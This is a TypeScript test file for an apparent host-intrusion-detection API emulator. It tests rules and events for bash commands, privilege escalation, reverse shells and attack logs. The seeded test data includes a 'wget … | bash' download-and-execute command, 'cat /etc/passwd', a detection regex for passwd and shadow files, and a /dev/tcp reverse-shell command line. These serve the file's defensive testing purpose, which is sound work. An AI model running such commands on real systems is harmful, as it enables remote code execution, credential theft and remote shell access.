import { after, before, test } from "node:test";
import assert from "node:assert/strict";
import { startTclocal, type TestServer } from "../helpers/tclocal";
import { expectCode, sdk } from "../helpers/sdk";
import { registerMachine, seed } from "./helpers";

let server: TestServer;
before(async () => {
  server = await startTclocal();
});
after(() => server.stop());

test("bash events are matched against system and user rules; rules are edited, switched and deleted", async () => {
  const yj = sdk("yunjing", server);
  const m = await registerMachine(server, { name: "bash-1", ip: "10.6.0.1" });
  const sys = await yj.DescribeBashRules({ Type: 0, Limit: 100 });
  assert.ok(sys.TotalCount! >= 8);
  const download = sys.List!.find((r) => r.Name === "下载并执行远程脚本")!;

  const e1 = await seed(server, m.uuid, "bash-events", { BashCmd: "wget -q -O - http://1.2.3.4/x.sh | bash" });
  assert.deepEqual([e1.record.RuleId, e1.record.RuleName, e1.record.RuleLevel], [download.Id, "下载并执行远程脚本", 1]);

  await yj.EditBashRule({ Name: "dump passwd", Level: 2, Rule: "cat\\s+/etc/passwd", Hostip: "10.6.0.1" });
  const user = await yj.DescribeBashRules({ Type: 1 });
  assert.equal(user.TotalCount, 1);
  const rule = user.List![0];
  assert.deepEqual([rule.Uuid, rule.Hostip, rule.IsGlobal, rule.Status, rule.Level], [m.uuid, "10.6.0.1", 0, 0, 2]);
  const e2 = await seed(server, m.uuid, "bash-events", { BashCmd: "cat /etc/passwd" });
  assert.equal(e2.record.RuleId, rule.Id);

  await yj.SwitchBashRules({ Id: rule.Id, Disabled: 1 });
  assert.equal((await seed(server, m.uuid, "bash-events", { BashCmd: "cat /etc/passwd" })).record.RuleId, 0);
  await yj.EditBashRule({ Id: rule.Id, Name: "dump passwd", Level: 1, Rule: "cat\\s+/etc/(passwd|shadow)", IsGlobal: 1 });
  assert.equal((await yj.DescribeBashRules({ Type: 1 })).List![0].IsGlobal, 1);

  const events = await yj.DescribeBashEvents({ Filters: [{ Name: "Keywords", Values: ["10.6.0.1"] }] });
  assert.equal(events.TotalCount, 3);
  await yj.SetBashEventsStatus({ Ids: [e1.Id, e2.Id], Status: 2 });
  const statuses = (await yj.DescribeBashEvents({})).List!.filter((e) => e.Id === e1.Id || e.Id === e2.Id).map((e) => e.Status);
  assert.deepEqual(statuses, [2, 2]);
  await expectCode(yj.SetBashEventsStatus({ Ids: [e1.Id], Status: 5 }), "InvalidParameter.InvalidFormat");
  await expectCode(yj.SetBashEventsStatus({ Ids: [424242], Status: 1 }), "ResourceNotFound");
  await expectCode(yj.SetBashEventsStatus({ Ids: Array.from({ length: 101 }, (_, i) => i + 1), Status: 1 }), "LimitExceeded.AreaQuota");

  await expectCode(yj.EditBashRule({ Name: "bad", Level: 1, Rule: "([a-z" }), "InvalidParameter.RegexRuleError");
  await expectCode(yj.EditBashRule({ Name: "bad", Level: 1, Rule: "x", Hostip: "10.6.0" }), "InvalidParameter.IpNoValid");
  await expectCode(yj.EditBashRule({ Name: "bad", Level: 1, Rule: "x", Hostip: "10.99.99.99" }), "InvalidParameter.RuleHostipErr");
  await expectCode(yj.EditBashRule({ Id: download.Id, Name: "mine", Level: 1, Rule: "x" }), "InvalidParameter.IllegalRequest");
  await expectCode(yj.DeleteBashRules({ Ids: [download.Id] }), "InvalidParameter.IllegalRequest");
  await yj.DeleteBashRules({ Ids: [rule.Id] });
  assert.equal((await yj.DescribeBashRules({ Type: 1 })).TotalCount, 0);
  await yj.DeleteBashEvents({ Ids: [e1.Id] });
  assert.equal((await yj.DescribeBashEvents({})).TotalCount, 2);
});

test("privilege escalation: events, allowlist rules suppress matching detections", async () => {
  const yj = sdk("yunjing", server);
  const m = await registerMachine(server, { name: "priv-1", ip: "10.6.0.2" });
  const e = await seed(server, m.uuid, "privilege-events", { ProcessName: "a.out" });
  assert.ok(e.Id > 0);
  await yj.EditPrivilegeRule({ ProcessName: "sudo-helper", Hostip: "10.6.0.2", SMode: 1 });
  const rules = await yj.DescribePrivilegeRules({});
  assert.deepEqual(rules.List!.map((r) => [r.ProcessName, r.SMode, r.Uuid, r.IsGlobal]), [["sudo-helper", 1, m.uuid, 0]]);
  const suppressed = await seed(server, m.uuid, "privilege-events", { ProcessName: "sudo-helper" });
  assert.equal(suppressed.Id, null);
  assert.equal(suppressed.suppressedByRule, rules.List![0].Id);
  await yj.EditPrivilegeRule({ Id: rules.List![0].Id, SMode: 0 });
  assert.equal((await yj.DescribePrivilegeRules({})).List![0].SMode, 0);
  await expectCode(yj.EditPrivilegeRule({ Hostip: "10.6.0.2" }), "InvalidParameter.MissingParameter");
  await expectCode(yj.EditPrivilegeRule({ ProcessName: "x", Hostip: "300.1.1.1" }), "InvalidParameter.RuleHostipErr");
  const list = await yj.DescribePrivilegeEvents({ Filters: [{ Name: "Keywords", Values: ["10.6.0.2"] }] });
  assert.deepEqual(list.List!.map((x) => [x.ProcessName, x.ProcFilePrivilege]), [["a.out", "-rwsr-xr-x"]]);
  await yj.DeletePrivilegeEvents({ Ids: [e.Id] });
  await yj.DeletePrivilegeRules({ Ids: [rules.List![0].Id] });
  assert.equal((await yj.DescribePrivilegeEvents({})).TotalCount, 0);
  assert.equal((await yj.DescribePrivilegeRules({})).TotalCount, 0);
});

test("reverse shells: events, rules with IP/port validation suppress matching detections", async () => {
  const yj = sdk("yunjing", server);
  const m = await registerMachine(server, { name: "rs-1", ip: "10.6.0.3" });
  const e = await seed(server, m.uuid, "reverse-shells", { DstIp: "139.199.79.160", DstPort: 8080 });
  assert.match(e.record.CmdLine, /\/dev\/tcp\/139\.199\.79\.160\/8080/);
  await yj.EditReverseShellRule({ DestIp: "192.0.2.10", DestPort: "4000-4100", IsGlobal: 1 });
  assert.equal((await seed(server, m.uuid, "reverse-shells", { DstIp: "192.0.2.10", DstPort: 4050 })).Id, null);
  assert.notEqual((await seed(server, m.uuid, "reverse-shells", { DstIp: "192.0.2.10", DstPort: 5000 })).Id, null);
  await expectCode(yj.EditReverseShellRule({ IsGlobal: 1 }), "InvalidParameter.ReverShellKeyFieldAllEmpty");
  await expectCode(yj.EditReverseShellRule({ DestIp: "192.0.2", IsGlobal: 1 }), "InvalidParameter.IpNoValid");
  await expectCode(yj.EditReverseShellRule({ DestPort: "70000", IsGlobal: 1 }), "InvalidParameter.PortNoValid");
  const rules = await yj.DescribeReverseShellRules({});
  assert.deepEqual(rules.List!.map((r) => [r.DestIp, r.DestPort, r.IsGlobal]), [["192.0.2.10", "4000-4100", 1]]);
  const events = await yj.DescribeReverseShellEvents({ Filters: [{ Name: "Keywords", Values: ["bash"] }] });
  assert.equal(events.TotalCount, 2);
  await yj.DeleteReverseShellRules({ Ids: [rules.List![0].Id] });
  await yj.DeleteReverseShellEvents({ Ids: [e.Id] });
  assert.equal((await yj.DescribeReverseShellEvents({})).TotalCount, 1);
});

test("attack logs: list with method/IP/date-range filters, details, delete", async () => {
  const yj = sdk("yunjing", server);
  const m = await registerMachine(server, { name: "atk-1", ip: "10.6.0.4", wanIp: "106.52.130.63" });
  const a = await seed(server, m.uuid, "attack-logs", { HttpMethod: "GET", CreatedAt: "2019-12-01 10:00:00", SrcIp: "117.20.113.126" });
  await seed(server, m.uuid, "attack-logs", { CreatedAt: "2019-12-20 10:00:00" });
  const inRange = await yj.DescribeAttackLogs({ Uuid: m.uuid, Filters: [{ Name: "DateRange", Values: ['["2019-11-17", "2019-12-17"]'] }] });
  assert.deepEqual(inRange.AttackLogs!.map((l) => l.Id), [a.Id]);
  const get = await yj.DescribeAttackLogs({ Quuid: m.quuid, Filters: [{ Name: "HttpMethod", Values: ["GET"] }] });
  assert.deepEqual(get.AttackLogs!.map((l) => [l.Id, l.SrcIp, l.DstIp]), [[a.Id, "117.20.113.126", "106.52.130.63"]]);
  const info = await yj.DescribeAttackLogInfo({ Id: a.Id });
  assert.equal(info.Quuid, m.quuid);
  assert.match(info.HttpHead!, /^GET \/index\.php\?/);
  await expectCode(yj.DescribeAttackLogs({ Filters: [{ Name: "DateRange", Values: ["last month"] }] }), "InvalidParameter.ParsingError");
  await expectCode(yj.DescribeAttackLogs({ Filters: [{ Name: "DateRange", Values: ["2019-12-17", "2019-11-17"] }] }), "InvalidParameter.DateRange");
  await yj.DeleteAttackLogs({ Ids: [a.Id] });
  await expectCode(yj.DescribeAttackLogInfo({ Id: a.Id }), "ResourceNotFound");
});
